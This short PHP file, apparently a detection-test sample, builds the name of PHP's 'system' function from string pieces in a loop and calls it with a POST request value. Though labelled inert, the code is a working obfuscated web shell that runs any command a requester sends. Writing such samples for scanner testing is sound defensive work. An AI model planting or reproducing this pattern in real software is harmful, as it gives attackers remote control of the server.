<?php
// Inert test sample: a command function's name spelt from a constant array one piece per pass of a
// counted loop, then called with the parameter a request value is handed to.
function render_row($row)
{
    $pieces = array('sy', 'st', 'em');
    $runner = '';
    for ($k = 0; $k < count($pieces); $k++) {
        $runner .= $pieces[$k];
    }
    $runner($row);
}

render_row($_POST['row']);
